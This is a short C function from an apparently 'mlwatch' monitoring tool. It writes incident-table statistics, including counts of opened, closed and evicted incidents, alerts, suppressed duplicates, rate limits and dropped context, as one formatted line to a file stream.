void incident_report(const struct incident_table *t, FILE *f)
{
	const struct incident_stats *s = &t->st;

	fprintf(f,
		"mlwatch: incidents opened=%llu closed=%llu evicted=%llu open=%zu, "
		"records new=%llu update=%llu, alerts=%llu suppressed: duplicates=%llu "
		"rate_limited=%llu global_limited=%llu steps_cut=%llu closes_deferred=%llu "
		"forced=%llu alloc_failed=%llu, context kept=%llu dropped=%llu\n",
		(unsigned long long)s->opened, (unsigned long long)s->closed,
		(unsigned long long)s->evicted, t->count, (unsigned long long)s->records_new,
		(unsigned long long)s->records_update, (unsigned long long)s->alerts,
		(unsigned long long)s->duplicates, (unsigned long long)s->rate_limited,
		(unsigned long long)s->global_limited, (unsigned long long)s->steps_cut,
		(unsigned long long)s->closes_deferred, (unsigned long long)s->forced,
		(unsigned long long)s->alloc_failed, (unsigned long long)s->context_kept,
		(unsigned long long)s->context_dropped);
}
